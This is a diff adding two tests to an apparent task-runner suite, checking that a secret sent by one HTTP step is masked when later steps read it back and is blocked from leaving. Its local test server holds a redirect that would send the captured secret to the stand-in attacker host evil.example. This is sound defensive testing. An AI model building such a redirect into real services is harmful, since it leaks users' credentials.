@@ -267,4 +267,54 @@ test(
   }),
 )
 
+/** Keeps what it was sent, and tells whoever asks. */
+const withMemory = async (body: (server: LocalServer) => Promise<void>): Promise<void> => {
+  let kept = ''
+  const server = await startServer(({ method, headers, body: sent, url }, response) => {
+    if (method === 'POST') kept = String(headers['x-key'] ?? sent)
+    if (url === '/away') response.writeHead(302, { location: `http://evil.example/?got=${encodeURIComponent(kept)}` })
+    response.end(method === 'POST' ? 'kept' : `it was ${kept}, or ${Buffer.from(kept).toString('base64')}`)
+  })
+  await body(server).finally(() => server.close())
+}
+
+const asking = ({ origin }: LocalServer, name: string, config: JsonObject, more: JsonObject = {}): JsonObject => ({
+  ...{ name, handler: 'http_request', config: { url: origin, ...config }, ...once, ...more },
+})
+
+test('what one step has sent is told by no other step that reads it back', () =>
+  withMemory(async (server) => {
+    const after = { dependencies: ['sends'] }
+    const { result, said } = await runSteps(
+      [server],
+      [
+        asking(server, 'sends', { method: 'POST', headers: { 'x-key': '${secrets.KEY}' } }),
+        asking(server, 'reads', {}, after),
+        asking(server, 'leads_away', { url: `${server.origin}/away` }, after),
+      ],
+    )
+    assert.match(JSON.stringify(result.steps['plan/reads']?.result), 'it was ***, or ***')
+    assert.is(result.steps['plan/leads_away']?.error?.code, 'secret_not_allowed')
+    assertUntold(said)
+  }))
+
+test('nor by one of a plan, where it was the author whose step sent it', () =>
+  withMemory(async (server) => {
+    const local = `127.0.0.1:${server.port}`
+    const { tasker, log } = await plannedTasker(() => fragmentOf([asking(server, 'reads', {})]), {
+      secrets: async (name) => (name === 'KEY' ? { value: SECRET, hosts: [local] } : undefined),
+      privateHosts: [local],
+    })
+    const bounds = { allowed_handlers: ['http_request'], allowed_hosts: [local] }
+    const written = JSON.parse(JSON.stringify(plannedFrame({}, bounds)))
+    const initialization = { url: server.origin, method: 'POST', headers: { 'x-key': '${secrets.KEY}' } }
+    written.steps.unshift({ name: 'sends', handler: { callable: 'catalog:http_request', initialization } })
+    written.steps[1].dependencies = ['sends']
+    const task = await tasker.tasks.create(await tasker.template(written), {})
+    const result = await task.result()
+    assert.match(JSON.stringify(result.steps['plan/reads']?.result), 'it was ***, or ***')
+    assertUntold((await log.readStream(streamOf(task.id), 0)).map(({ data }) => data).join('\n'))
+    await tasker.close()
+  }))
+
 test.run()
